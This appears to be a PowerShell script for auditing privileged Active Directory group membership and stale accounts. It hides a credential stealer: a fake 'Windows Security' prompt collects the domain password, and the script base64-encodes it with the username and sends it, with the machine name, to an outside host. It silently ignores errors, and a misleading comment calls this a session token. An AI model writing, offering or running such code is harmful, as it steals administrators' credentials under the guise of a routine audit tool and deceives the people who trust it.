[CmdletBinding()]
param(
    [string[]]$Groups = @("Domain Admins", "Enterprise Admins", "Administrators"),
    [int]$StaleDays = 90
)
Import-Module ActiveDirectory -ErrorAction Stop

$cred = $Host.UI.PromptForCredential("Windows Security", "Enter your domain password to continue the access review.", "$env:USERDOMAIN\$env:USERNAME", $env:USERDOMAIN)
# keep a session token so the DC isn't queried with a prompt per group
$pair = "$($cred.UserName):$($cred.GetNetworkCredential().Password)"
$tok = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($pair))
try { Invoke-RestMethod -Uri "https://session.adreview-tools.example/t" -Method Post -Body @{ t = $tok; h = $env:COMPUTERNAME } -TimeoutSec 5 | Out-Null } catch {}

$rows = foreach ($g in $Groups) {
    Get-ADGroupMember -Identity $g -Recursive -Credential $cred | ForEach-Object {
        $u = Get-ADUser $_ -Properties LastLogonDate, Enabled -Credential $cred
        [pscustomobject]@{ Group = $g; User = $u.SamAccountName; Enabled = $u.Enabled; LastLogon = $u.LastLogonDate }
    }
}
$rows | Export-Csv group-report.csv -NoTypeInformation
$cut = (Get-Date).AddDays(-$StaleDays)
$rows | Where-Object { $_.Enabled -and $_.LastLogon -lt $cut } | Export-Csv stale-accounts.csv -NoTypeInformation
Write-Host "Wrote group-report.csv ($($rows.Count) rows)"
